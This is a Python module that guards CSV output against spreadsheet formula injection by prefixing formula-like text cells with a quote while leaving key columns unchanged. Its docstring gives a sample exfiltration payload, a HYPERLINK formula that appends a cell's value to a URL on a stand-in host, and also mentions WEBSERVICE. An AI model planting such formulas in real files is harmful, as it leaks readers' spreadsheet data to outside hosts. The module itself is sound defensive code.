"""CSV that a person can open in a spreadsheet without running what a colleague's run put in it.

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a
carriage return first) as a formula: a message text like `=HYPERLINK("http://x/?"&A2, "open")`
sends the sheet's cells away when clicked, `=WEBSERVICE(...)` when opened. A run folder from a
colleague is hostile input, and its texts and worker names reach every CSV mbb writes from run
content (the taxonomy review samples a person is asked to open and fill in, a report's tables).
Every such CSV goes through `guarded`: a text cell that starts with one of those characters gets
a leading `'` (which a spreadsheet shows as text, and hides). Key columns are left as they are,
so a file filled in by a reviewer still joins back on them (`keep`)."""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path
from typing import Any

__all__ = ["FORMULA_START", "guarded", "write_csv"]

# the characters a spreadsheet starts a formula with (tab and CR: some strip them first)
FORMULA_START = r"^[=+\-@\t\r]"


def guarded(df: Any, keep: Iterable[str] = ()) -> Any:
    """`df` (a polars DataFrame) with each text cell that a spreadsheet would read as a formula
    prefixed by `'`; the columns in `keep` (keys a reader joins on: mbb's run ids are letters,
    digits, `_`, `.` and `-`, so they hold no call) and non-text columns unchanged.

    df: the table; keep: column names left as they are."""
    import polars as pl

    kept = set(keep)
    text = [c for c, t in df.schema.items() if t == pl.String and c not in kept]
    if not text:
        return df
    return df.with_columns(
        pl.when(pl.col(c).str.contains(FORMULA_START))
        .then(pl.lit("'") + pl.col(c))
        .otherwise(pl.col(c))
        .alias(c)
        for c in text
    )


def write_csv(df: Any, path: str | Path | None = None, *, keep: Iterable[str] = ()) -> str | None:
    """`guarded(df, keep)` written as CSV to `path`, or returned as text when `path` is None.

    df: the table; path: the file; keep: key columns left as they are."""
    return guarded(df, keep).write_csv(path)
